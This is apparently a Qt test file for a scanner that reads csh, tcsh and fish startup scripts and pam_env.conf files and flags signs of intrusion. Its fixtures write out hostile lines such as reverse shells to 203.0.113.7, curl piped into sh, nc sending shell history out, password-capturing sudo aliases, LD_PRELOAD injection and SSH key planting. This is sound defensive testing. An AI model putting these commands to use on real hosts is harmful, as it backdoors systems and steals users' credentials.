    const QString function = QStringLiteral("worker-1/home/alice/.config/fish/functions/x.fish");
    const QStringList none;

    // csh and tcsh.
    QTest::newRow("csh: setenv LD_PRELOAD")
        << cshrc << QByteArray("setenv LD_PRELOAD /usr/local/lib/libx.so\n") << QStringList{"ld-preload@1"};
    QTest::newRow("csh: setenv LD_PRELOAD empty")
        << cshrc << QByteArray("setenv LD_PRELOAD \"\"\nsetenv LD_PRELOAD\nunsetenv LD_PRELOAD\n") << none;
    QTest::newRow("csh: set LD_PRELOAD, a shell variable") << cshrc << QByteArray("set LD_PRELOAD=/lib/x.so\n") << none;
    QTest::newRow("csh: alias sudo to /tmp")
        << users << QByteArray("alias sudo /tmp/.s/sudo\n") << QStringList{"credential-alias@1"};
    QTest::newRow("csh: alias su reading the password")
        << users << QByteArray("alias su 'set p = $<; echo $p >> ~/.p; /bin/su \\!*'\n")
        << QStringList{"credential-alias@1"};
    QTest::newRow("csh: alias sudo 'sudo -E'") << users << QByteArray("alias sudo 'sudo -E'\n") << none;
    QTest::newRow("csh: alias ssh by its path") << users << QByteArray("alias ssh '/usr/bin/ssh -A \\!*'\n") << none;
    QTest::newRow("csh: other aliases") << users << QByteArray("alias ls 'ls -F'\nalias k kubectl\nalias\n") << none;
    QTest::newRow("csh: precmd with nc") << cshrc << QByteArray("alias precmd 'history 1 | nc 203.0.113.7 9000'\n")
                                         << QStringList{"prompt-command@1"};
    QTest::newRow("csh: precmd sets the title")
        << cshrc << QByteArray("alias precmd 'echo -n \"\\033]0;${HOST}\\007\"'\n") << none;
    QTest::newRow("csh: cwdcmd from /dev/shm")
        << users << QByteArray("alias cwdcmd /dev/shm/.c\n") << QStringList{"prompt-command@1"};
    QTest::newRow("csh: periodic with wget")
        << users << QByteArray("set tperiod = 5\nalias periodic 'wget -q -O- http://203.0.113.7/b'\n")
        << QStringList{"prompt-command@2"};
    QTest::newRow("csh: jobcmd with curl")
        << cshrc << QByteArray("alias jobcmd 'curl -s -d \"\\!#\" https://203.0.113.7/c'\n")
        << QStringList{"debug-trap@1"};
    QTest::newRow("csh: postcmd sets the title")
        << cshrc << QByteArray("alias postcmd 'echo -n \"\\033]2;\\!#\\007\"'\n") << none;
    QTest::newRow("csh: set history = 0") << cshrc << QByteArray("set history = 0\n") << QStringList{"history-off@1"};
    QTest::newRow("csh: set savehist=0") << login << QByteArray("set savehist=0\n") << QStringList{"history-off@1"};
    QTest::newRow("csh: unset history and savehist")
        << cshrc << QByteArray("unset history savehist\n") << QStringList{"history-off@1"};
    QTest::newRow("csh: histfile to /dev/null")
        << cshrc << QByteArray("set histfile=/dev/null\n") << QStringList{"history-off@1"};
    QTest::newRow("csh: a history kept")
        << cshrc << QByteArray("set history=1000\nset savehist = (1000 merge)\nset histfile = ~/.history\n") << none;
    QTest::newRow("csh: a user's own history") << users << QByteArray("unset savehist\nset history = 0\n") << none;
    QTest::newRow("csh: a one-line if running a download")
        << cshrc << QByteArray("if ($?prompt) curl -s http://203.0.113.7/x | sh\n") << QStringList{"download-exec@1"};
    QTest::newRow("csh: the if's expression runs")
        << cshrc << QByteArray("if (`curl -s http://203.0.113.7/x | sh` == 1) then\nendif\n")
        << QStringList{"download-exec@1"};
    QTest::newRow("csh: a word list, not a subshell") << users << QByteArray("set path = ( /tmp/.x $path )\n") << none;
    QTest::newRow("csh: a subshell") << cshrc << QByteArray("( /tmp/.x/run & )\n") << QStringList{"runs-from-temp@1"};
    QTest::newRow("csh: a reverse shell")
        << login << QByteArray("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &\n")
        << QStringList{"reverse-shell@1"};
    QTest::newRow("csh: a download sourced")
        << cshrc << QByteArray("curl -so /tmp/.r https://203.0.113.7/r\nsource /tmp/.r\n")
        << QStringList{"download-exec@2"};
    QTest::newRow("csh: blocks") << cshrc
                                 << QByteArray("if ($?x) then\nelse if (-x /tmp/.y) then\n    /tmp/.y\nendif\n"
                                               "foreach f (/tmp/.a /tmp/.b)\nend\nswitch ($x)\ncase a:\n    breaksw\n"
                                               "endsw\n")
                                 << QStringList{"runs-from-temp@3"};
    QTest::newRow("csh: RHEL's shapes")
        << login
        << QByteArray(
               "if ($uid > 199 && \"`id -gn`\" == \"`id -un`\") then\n    umask 002\nelse\n    umask 022\nendif\n"
               "if ($?prompt) then\n  if ($?tcsh) then\n    set promptchars='$#'\n"
               "    set prompt=\"[%n@%m %c]%# \"\n  else\n    set prompt=\\[$user@`hostname -s`\\]\\$\\ \n"
               "  endif\nendif\nsetenv MAIL \"/var/spool/mail/$USER\"\nlimit coredumpsize 0\n"
               "if ( -d /etc/profile.d ) then\n    set nonomatch\n    foreach i ( /etc/profile.d/*.csh )\n"
               "        if ( -r \"$i\" ) then\n            if ($?prompt) then\n                source \"$i\"\n"
               "            else\n                source \"$i\" >& /dev/null\n            endif\n        endif\n"
               "    end\n    unset i nonomatch\nendif\n")
        << none;
    QTest::newRow("csh: a curl piped into tcsh")
        << users << QByteArray("curl -s http://203.0.113.7/x | tcsh\n") << QStringList{"download-exec@1"};

    // fish.
    QTest::newRow("fish: set -gx LD_PRELOAD")
        << confD << QByteArray("set -gx LD_PRELOAD /lib/x.so\n") << QStringList{"ld-preload@1"};
    QTest::newRow("fish: --export --global")
        << confD << QByteArray("set --export --global LD_PRELOAD /lib/x.so\n") << QStringList{"ld-preload@1"};
    QTest::newRow("fish: LD_PRELOAD not exported") << confD << QByteArray("set -g LD_PRELOAD /lib/x.so\n") << none;
    QTest::newRow("fish: LD_PRELOAD erased, queried")
        << confD << QByteArray("set -e LD_PRELOAD\nset -q LD_PRELOAD\nset -gx LD_PRELOAD\n") << none;
    QTest::newRow("fish: alias sudo=…") << confD
                                        << QByteArray("alias sudo='read -s p; echo $p >> /tmp/.p; command sudo'\n")
                                        << QStringList{"credential-alias@1"};
    QTest::newRow("fish: alias sudo words")
        << confD << QByteArray("alias sudo /home/u/.s/sudo\n") << QStringList{"credential-alias@1"};
    QTest::newRow("fish: alias sudo 'sudo -E'")
        << confD << QByteArray("alias sudo 'sudo -E'\nalias -s ll 'ls -l'\n") << none;
    QTest::newRow("fish: function sudo on one line")
        << confD << QByteArray("function sudo; read -s -P 'Password: ' p; command sudo $argv; end\n")
        << QStringList{"credential-alias@1"};
    QTest::newRow("fish: function su wrapping su")
        << function << QByteArray("function su\n    command su -l $argv\nend\n") << none;
    QTest::newRow("fish: function ssh, set first")
        << function << QByteArray("function ssh\n    set -l a $argv\n    /usr/bin/ssh $a\nend\n") << none;
    QTest::newRow("fish: function passwd by another program")
        << function << QByteArray("function passwd\n    /usr/local/bin/pw-sync $argv\nend\n")
        << QStringList{"credential-alias@2"};
    QTest::newRow("fish: another function reading")
        << function << QByteArray("function greet\n    read -s x\nend\n") << none;
    QTest::newRow("fish: function sudo reading after its program")
        << function << QByteArray("function sudo\n    command sudo -v\n    read -s p\n    command sudo $argv\nend\n")
        << QStringList{"credential-alias@3"};
    QTest::newRow("fish: fish_prompt calling curl")
        << confD << QByteArray("function fish_prompt\n    curl -s https://203.0.113.7/p?u=$USER\n    echo '> '\nend\n")
        << QStringList{"prompt-command@2"};
    QTest::newRow("fish: fish_preexec to nc")
        << confD << QByteArray("function __log --on-event fish_preexec\n    echo $argv | nc 203.0.113.7 9000\nend\n")
        << QStringList{"debug-trap@2"};
    QTest::newRow("fish: --on-event=fish_postexec")
        << confD << QByteArray("function __p --on-event=fish_postexec\n    wget -q http://203.0.113.7/w\nend\n")
        << QStringList{"prompt-command@2"};
    QTest::newRow("fish: on-variable PWD from /tmp")
        << confD << QByteArray("function __cd --on-variable PWD\n    /tmp/.c/hook\nend\n")
        << QStringList{"prompt-command@2", "runs-from-temp@2"};
    QTest::newRow("fish: an if inside the prompt, then more of it")
        << confD
        << QByteArray("function fish_prompt\n    if test -n \"$SSH_TTY\"\n        echo -n (hostname)\n    end\n"
                      "    curl -s https://203.0.113.7/p\nend\ncurl -s https://203.0.113.7/ping\n")
        << QStringList{"prompt-command@5"};
    QTest::newRow("fish: curl outside any hook") << confD << QByteArray("curl -s https://203.0.113.7/ping\n") << none;
    QTest::newRow("fish: history off") << confD << QByteArray("set -g fish_history ''\n")
                                       << QStringList{"history-off@1"};
    QTest::newRow("fish: history off, no value")
        << confD << QByteArray("set -U fish_history\n") << QStringList{"history-off@1"};
    QTest::newRow("fish: a history of its own name") << confD << QByteArray("set -g fish_history work\n") << none;
    QTest::newRow("fish: a user's own history") << QStringLiteral("worker-1/home/alice/.config/fish/config.fish")
                                                << QByteArray("set fish_history ''\n") << none;
    QTest::newRow("fish: piped into source")
        << confD << QByteArray("curl -fsSL https://203.0.113.7/i.fish | source\n") << QStringList{"download-exec@1"};
    QTest::newRow("fish: source of psub") << confD << QByteArray("source (curl -s https://203.0.113.7/i.fish | psub)\n")
                                          << QStringList{"download-exec@1"};
    QTest::newRow("fish: piped into fish")
        << confD << QByteArray("wget -qO- http://203.0.113.7/x | fish\n") << QStringList{"download-exec@1"};
    QTest::newRow("fish: eval of base64")
        << confD << QByteArray("eval (echo ZWNobyBoaQ== | base64 -d)\n") << QStringList{"encoded-payload@1"};
    QTest::newRow("fish: and, or before a command")
        << confD << QByteArray("test -x /tmp/.x/run\nand /tmp/.x/run\nor curl -s http://203.0.113.7/x | sh\n")
        << QStringList{"download-exec@3", "runs-from-temp@2"};
    QTest::newRow("fish: begin … end") << confD << QByteArray("begin\n    true; and /tmp/.x/run\nend\n")
                                       << QStringList{"runs-from-temp@2"};
    QTest::newRow("fish: a reverse shell")
        << confD << QByteArray("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &\n")
        << QStringList{"reverse-shell@1"};
    QTest::newRow("fish: an ssh key written")
        << confD << QByteArray("echo 'ssh-ed25519 AAAAC3Nz x' >> /root/.ssh/authorized_keys\n")
        << QStringList{"adds-ssh-key@1"};
    QTest::newRow("fish: completions sourced") << confD << QByteArray("kubectl completion fish | source\n") << none;

    // A script of a boot or cron folder written for another shell, in its syntax.
    QTest::newRow("a fish script in cron.daily")
        << QStringLiteral("worker-1/etc/cron.daily/x")
        << QByteArray("#!/usr/bin/fish\nset -gx LD_PRELOAD /lib/x.so\nfor f in (ls /tmp/.q)\n    /tmp/.q/$f\nend\n")
        << QStringList{"ld-preload@2", "runs-from-temp@4"};
    QTest::newRow("a csh script in init.d")
        << QStringLiteral("worker-1/etc/init.d/x") << QByteArray("#!/bin/csh -f\nsetenv LD_PRELOAD /lib/x.so\n")
        << QStringList{"ld-preload@2"};
}

void TestNodeScriptImporter::shellDialects()
{
    QFETCH(QString, path);
    QFETCH(QByteArray, text);
    QFETCH(QStringList, findings);
    const MemoryImport m = runBytes(text, path);
    QVERIFY(m.result.hasValue());
    QCOMPARE(rulesOf(text, path), findings);
}

void TestNodeScriptImporter::shellDialectFindingsSayWhat()
{
    // csh.cshrc: when it runs, the command as the file has it, the syntax.
    const MemoryImport csh = runFixture(QStringLiteral("rootkit/etc/csh.cshrc"));
    QCOMPARE(bodyOf(csh).value(QStringLiteral("syntax")).toString(), QStringLiteral("csh"));
    QCOMPARE(bodyOf(csh).value(QStringLiteral("runs")).toString(), QStringLiteral("every csh"));
    QCOMPARE(bodyOf(csh).value(QStringLiteral("runsAs")).toString(), QStringLiteral("every user"));
    const Finding* precmd =
        findingFor(csh, QStringLiteral("node.script.prompt-command"), QStringLiteral("etc/csh.cshrc"));
    QVERIFY(precmd);
    QCOMPARE(precmd->severity, Severity::High);
    QCOMPARE(precmd->title, QStringLiteral("the script /etc/csh.cshrc runs a network or temporary program before every "
                                           "prompt on node worker-1"));
    QVERIFY2(precmd->detail.startsWith(QLatin1String("csh's and tcsh's precmd")), qPrintable(precmd->detail));
    QVERIFY2(precmd->detail.contains(QLatin1String("Line 20 of /etc/csh.cshrc, run in every csh and tcsh of every "
                                                   "user, scripts' too: if ($?prompt) alias precmd 'curl -s")),
             qPrintable(precmd->detail));
    const Finding* alias =
        findingFor(csh, QStringLiteral("node.script.credential-alias"), QStringLiteral("etc/csh.cshrc"));
    QCOMPARE(alias->severity, Severity::High);
    QCOMPARE(findingFor(csh, QStringLiteral("node.script.ld-preload"), QStringLiteral("etc/csh.cshrc"))->severity,
             Severity::Medium);
    const Finding* history =
        findingFor(csh, QStringLiteral("node.script.history-off"), QStringLiteral("etc/csh.cshrc"));
    QCOMPARE(history->severity, Severity::Low);
    QVERIFY(history->detail.contains(QLatin1String("unset savehist")));
    // The kept command as written, not as it was read.
    const QJsonArray kept = bodyOf(csh).value(QStringLiteral("suspicious")).toArray();
    QCOMPARE(kept.size(), 5);
    QCOMPARE(kept[2].toObject().value(QStringLiteral("command")).toString().left(31),
             QStringLiteral("if ($?prompt) alias precmd 'cur"));

    const MemoryImport tcsh = runFixture(QStringLiteral("rootkit/home/dev/.tcshrc"));
    const Finding* postcmd =
        findingFor(tcsh, QStringLiteral("node.script.debug-trap"), QStringLiteral("home/dev/.tcshrc"));
    QCOMPARE(postcmd->severity, Severity::High);
    QVERIFY2(postcmd->detail.contains(QLatin1String("Line 3 of /home/dev/.tcshrc, run in every csh and tcsh of dev, "
                                                    "scripts' too: alias postcmd '/dev/shm/.k/kl")),
             qPrintable(postcmd->detail));

    // fish: a function's file says which command loads it.
    const MemoryImport sudo = runFixture(QStringLiteral("rootkit/home/dev/.config/fish/functions/sudo.fish"));
    QCOMPARE(bodyOf(sudo).value(QStringLiteral("syntax")).toString(), QStringLiteral("fish"));
    QCOMPARE(bodyOf(sudo).value(QStringLiteral("runs")).toString(), QStringLiteral("fish function"));
    QCOMPARE(bodyOf(sudo).value(QStringLiteral("runsAs")).toString(), QStringLiteral("dev"));
    const Finding& wrapper = sudo.out.findings.front();
    QCOMPARE(wrapper.severity, Severity::High);
    QCOMPARE(wrapper.title, QStringLiteral("the script /home/dev/.config/fish/functions/sudo.fish replaces a login "
                                           "command with a function on node worker-1"));
    QVERIFY2(wrapper.detail.contains(QLatin1String("Line 2 of /home/dev/.config/fish/functions/sudo.fish, run when a "
                                                   "fish of dev first runs sudo:     read --silent")),
             qPrintable(wrapper.detail));
    const MemoryImport conf = runFixture(QStringLiteral("rootkit/etc/fish/conf.d/gnome-keyring.fish"));
    QCOMPARE(bodyOf(conf).value(QStringLiteral("runs")).toString(), QStringLiteral("every fish"));
    const Finding* payload = findingFor(conf, QStringLiteral("node.script.encoded-payload"),
                                        QStringLiteral("etc/fish/conf.d/gnome-keyring.fish"));
    QVERIFY2(payload->detail.endsWith(QLatin1String("run in every fish of every user, scripts' too: eval (echo "
                                                    "Y3VybCAtcyBodHRwczovLzIwMy4wLjExMy41MC94IHwgc2g= | base64 -d)")),
             qPrintable(payload->detail));
    const Finding* prompt = findingFor(conf, QStringLiteral("node.script.prompt-command"),
                                       QStringLiteral("etc/fish/conf.d/gnome-keyring.fish"));
    QVERIFY(prompt->detail.contains(QLatin1String("fish_prompt")));
    // An sh file keeps no syntax of its own.
    QVERIFY(!bodyOf(runFixture(QStringLiteral("intruded/etc/rc.local"))).contains(QStringLiteral("syntax")));
    // A comment-only csh.logout is said to hold nothing.
    const MemoryImport logout = runBytes("# /etc/csh.logout: system-wide .logout file for csh(1) and tcsh(1)\n",
                                         QStringLiteral("worker-1/etc/csh.logout"));
    QVERIFY(logout.result.hasValue());
    QVERIFY(logout.out.resources.empty());
    QCOMPARE(issueCodes(logout.issues), QStringList{QStringLiteral("node-script.empty")});

    // Through an import of a node's tarball: each file found by where it lies,
    // under its node, with its findings.
    QVector<QPair<QString, QByteArray>> members;
    for (const char* f :
         {"rootkit/etc/csh.cshrc", "rootkit/home/dev/.tcshrc", "rootkit/etc/fish/conf.d/gnome-keyring.fish",
          "rootkit/home/dev/.config/fish/functions/sudo.fish", "rootkit/etc/security/pam_env.conf",
          "rootkit/home/dev/.pam_environment", "debian/etc/csh.login", "debian/etc/fish/config.fish"}) {
        const QString path = QString::fromLatin1(f);
        members.push_back({QStringLiteral("worker-3/") + path.section(QLatin1Char('/'), 1), fixture(path)});
    }
    const ImportedResources imported = importTarball(members);
    QVERIFY2(imported.error.isEmpty(), qPrintable(imported.error));
    QCOMPARE(imported.names(QStringLiteral("NodeScript")),
             (QStringList{QStringLiteral("worker-3/etc/csh.cshrc"), QStringLiteral("worker-3/etc/csh.login"),
                          QStringLiteral("worker-3/etc/fish/conf.d/gnome-keyring.fish"),
                          QStringLiteral("worker-3/home/dev/.config/fish/functions/sudo.fish"),
                          QStringLiteral("worker-3/home/dev/.tcshrc")}));
    QCOMPARE(imported.names(QStringLiteral("NodeEnvironment")),
             (QStringList{QStringLiteral("worker-3/etc/security/pam_env.conf"),
                          QStringLiteral("worker-3/home/dev/.pam_environment")}));
    // 5 in csh.cshrc, 2 in .tcshrc, 5 in gnome-keyring.fish, 1 in sudo.fish, 2 in pam_env.conf, 1 in .pam_environment.
    QCOMPARE(imported.findings, 16);
}

void TestNodeScriptImporter::pamEnvironment()
{
    // pam_env.conf: the variables with their DEFAULT and OVERRIDE, the
    // credentials fingerprinted, the title naming the file.
    const MemoryImport conf = runFixture(QStringLiteral("rootkit/etc/security/pam_env.conf"));
    const QJsonObject body = bodyOf(conf);
    QCOMPARE(body.value(QStringLiteral("runs")).toString(), QStringLiteral("every login session"));
    QCOMPARE(body.value(QStringLiteral("runsAs")).toString(), QStringLiteral("every user"));
    const QJsonArray variables = body.value(QStringLiteral("variables")).toArray();
    QCOMPARE(variables.size(), 3);
    QCOMPARE(variables[0].toObject().value(QStringLiteral("default")).toString(),
             QStringLiteral("/usr/lib/x86_64-linux-gnu/libpam_cache.so"));
    QCOMPARE(variables[2].toObject().value(QStringLiteral("line")).toInt(), 79);
    QCOMPARE(variables[2].toObject().value(QStringLiteral("override")).toString(),
             QStringLiteral("/dev/shm/.u/bin:/usr/local/bin:/usr/bin:/bin"));
    QVERIFY(variables[1]
                .toObject()
                .value(QStringLiteral("default"))
                .toString()
                .startsWith(QLatin1String("[redacted sha256:")));
    QVERIFY(!conf.out.resources.front().body.contains(QLatin1String("wJalrXUtnFEMI")));
    const Finding* preload =
        findingFor(conf, QStringLiteral("node.environment.ld-preload"), QStringLiteral("etc/security/pam_env.conf"));
    QCOMPARE(preload->severity, Severity::High);
    QCOMPARE(preload->resourceKind, QStringLiteral("NodeEnvironment"));
    QCOMPARE(preload->title, QStringLiteral("/etc/security/pam_env.conf preloads /usr/lib/x86_64-linux-gnu/"
                                            "libpam_cache.so into the programs of every login session on node "
                                            "worker-1"));
    QVERIFY(preload->detail.contains(QLatin1String("/etc/security/pam_env.conf")));
    const Finding* path =
        findingFor(conf, QStringLiteral("node.environment.path"), QStringLiteral("etc/security/pam_env.conf"));
    QCOMPARE(path->severity, Severity::Medium);
    QCOMPARE(path->title, QStringLiteral("/etc/security/pam_env.conf puts /dev/shm/.u/bin in the PATH of every login "
                                         "session on node worker-1"));

    // A user's ~/.pam_environment: its sessions, both syntaxes.
    const MemoryImport own = runFixture(QStringLiteral("rootkit/home/dev/.pam_environment"));
    QCOMPARE(bodyOf(own).value(QStringLiteral("runsAs")).toString(), QStringLiteral("dev"));
    QCOMPARE(bodyOf(own).value(QStringLiteral("owner")).toString(), QStringLiteral("dev"));
    QCOMPARE(own.out.findings.front().title,
             QStringLiteral("/home/dev/.pam_environment makes the login sessions of dev load libraries from "
                            "@{HOME}/.cache/.l on node worker-1"));
    const QJsonArray mine = bodyOf(own).value(QStringLiteral("variables")).toArray();
    QCOMPARE(mine.size(), 2);
    QCOMPARE(mine[1].toObject().value(QStringLiteral("name")).toString(), QStringLiteral("GITHUB_TOKEN"));
    QVERIFY(!own.out.resources.front().body.contains(QLatin1String("ghp_R3al")));

    // How lines are read.
    const QString pam = QStringLiteral("worker-1/etc/security/pam_env.conf");
    QCOMPARE(findingLines(runBytes("PATH DEFAULT=${HOME}/bin:/usr/bin OVERRIDE=@{HOME}/.local/bin:${PATH}\n", pam)),
             QStringList());
    QCOMPARE(findingLines(runBytes("PATH OVERRIDE=.:/usr/bin\n", pam)),
             QStringList{QStringLiteral("node.environment.path@1")});
    QCOMPARE(findingLines(runBytes("LD_LIBRARY_PATH DEFAULT=/opt/lib OVERRIDE=/var/tmp/l\n", pam)),
             QStringList{QStringLiteral("node.environment.library-path@1")});
    QCOMPARE(findingLines(runBytes("LD_PRELOAD DEFAULT=\nLD_PRELOAD DEFAULT=\"\" OVERRIDE=\"\"\n", pam)),
             QStringList());
    QCOMPARE(findingLines(runBytes("LD_PRELOAD=/lib/x.so\n", pam)),
             QStringList{QStringLiteral("node.environment.ld-preload@1")});
    // Both values from the temporary folder: one finding of the rule.
    QCOMPARE(findingLines(runBytes("PATH DEFAULT=/tmp/a:/bin OVERRIDE=/tmp/b:/bin\n", pam)),
             QStringList{QStringLiteral("node.environment.path@1")});
    // A '#' ends the line, a '\\' before it too; a comment line inside a
    // continued one is skipped; a '\\' joins with a blank, as pam_env does.
    QCOMPARE(findingLines(runBytes("PATH DEFAULT=/usr/bin # OVERRIDE=/tmp/x\n", pam)), QStringList());
    QCOMPARE(findingLines(runBytes("PATH DEFAULT=/usr/bin \\ # x\nLD_PRELOAD DEFAULT=/lib/x.so\n", pam)),
             QStringList{QStringLiteral("node.environment.ld-preload@2")});
    QCOMPARE(findingLines(runBytes("PATH DEFAULT=/usr/bin:\\\n/tmp/x\n", pam)), QStringList());
    QCOMPARE(findingLines(runBytes("LD_PRELOAD \\\n# a note\n  DEFAULT=/lib/x.so\n", pam)),
             QStringList{QStringLiteral("node.environment.ld-preload@1")});
    // A word that is no option: named, the rest of the line read, nothing of it shown.
    const MemoryImport odd = runBytes("DB_PASSWORD Hunter2-Secret DEFAULT=x\nPATH DEFAULT=/tmp/p\n", pam);
    QVERIFY(hasIssue(odd.issues, QStringLiteral("node-script.not-an-option")));
    QCOMPARE(findingLines(odd), QStringList{QStringLiteral("node.environment.path@2")});
    for (const Issue& i : odd.issues)
        QVERIFY(!i.message.contains(QLatin1String("Hunter2")));
    QVERIFY(!odd.out.resources.front().body.contains(QLatin1String("Hunter2")));
    const MemoryImport bad = runBytes("=x\nLANG DEFAULT=C\n", pam);
    QCOMPARE(bad.result.value().skipped, 1);
    QVERIFY(hasIssue(bad.issues, QStringLiteral("node-script.not-a-variable")));
}

void TestNodeScriptImporter::shellDialectsBounded()
{
    // A million precmd aliases in csh.cshrc: each judged, the first 10,000
    // kept, a hundred findings and an issue counting the rest.
    QByteArray bytes;
    bytes.reserve(40 * 1000000);
    for (int i = 0; i < 1000000; ++i)
        bytes += "alias precmd '/tmp/p " + QByteArray::number(i % 10) + "'\n";
    const MemoryImport m = runBytes(bytes, QStringLiteral("worker-1/etc/csh.cshrc"));
    QVERIFY(keptBounded(m, QStringLiteral("node-script"), "suspicious", 10000, "suspiciousNotKept", 990000,
                        QStringLiteral("999900 more commands match node.script.prompt-command")));

    // One fish line of 2 MB: cut by the line reader, the file still read.
    const QByteArray huge = "echo (" + QByteArray(2 * 1024 * 1024, 'x') + ")\n/tmp/y\n";
    const MemoryImport h = runBytes(huge, QStringLiteral("worker-1/etc/fish/config.fish"));
    QVERIFY(h.result.hasValue());
    QVERIFY(hasIssue(h.issues, QStringLiteral("node-script.line-too-long")));
    QCOMPARE(findingLines(h), QStringList{QStringLiteral("node.script.runs-from-temp@2")});
    QVERIFY(h.out.resources.front().body.size() < 64 * 1024);

    // 100,000 blocks opened and closed, then a prompt function: the blocks past
    // the first 64 counted, so the function is still known for what it is.
    QByteArray nested;
    for (int i = 0; i < 100000; ++i)
        nested += "begin\n";
    for (int i = 0; i < 100000; ++i)
        nested += "end\n";
    nested += "function fish_prompt\n    nc 203.0.113.7 9\nend\n";
    const MemoryImport n = runBytes(nested, QStringLiteral("worker-1/etc/fish/conf.d/x.fish"));
    QCOMPARE(findingLines(n), QStringList{QStringLiteral("node.script.prompt-command@200002")});
    // More ends than blocks, a function never closed: read to the end.
    QCOMPARE(rulesOf("end\nend\nfunction sudo\n    read -s p\n", QStringLiteral("worker-1/etc/fish/config.fish")),
             QStringList{QStringLiteral("credential-alias@4")});
    // A csh quote never closed: read up to the bound, then afresh.
    QByteArray quoted = "alias x 'never closed\n";
    for (int i = 0; i < 20000; ++i)
        quoted += "line " + QByteArray::number(i) + "\n";
    const MemoryImport q = runBytes(quoted, QStringLiteral("worker-1/etc/csh.cshrc"));
    QVERIFY(q.result.hasValue());
    QVERIFY(hasIssue(q.issues, QStringLiteral("node-script.too-long")));
    // A pam_env.conf line continued a million times: read up to the bound.
    QByteArray continued = "PATH DEFAULT=/usr/bin\\\n";
    for (int i = 0; i < 1000000; ++i)
        continued += ":/opt/x\\\n";
    continued += ":/end\nLD_PRELOAD DEFAULT=/lib/x.so\n";
    const MemoryImport c = runBytes(continued, QStringLiteral("worker-1/etc/security/pam_env.conf"));
    QVERIFY(c.result.hasValue());
    QVERIFY(hasIssue(c.issues, QStringLiteral("node-script.too-long")));
    QCOMPARE(findingLines(c), QStringList{QStringLiteral("node.environment.ld-preload@1000003")});
    QVERIFY(c.out.resources.front().body.size() < 256 * 1024);
}

QTEST_GUILESS_MAIN(TestNodeScriptImporter)
#include "TestNodeScriptImporter.moc"
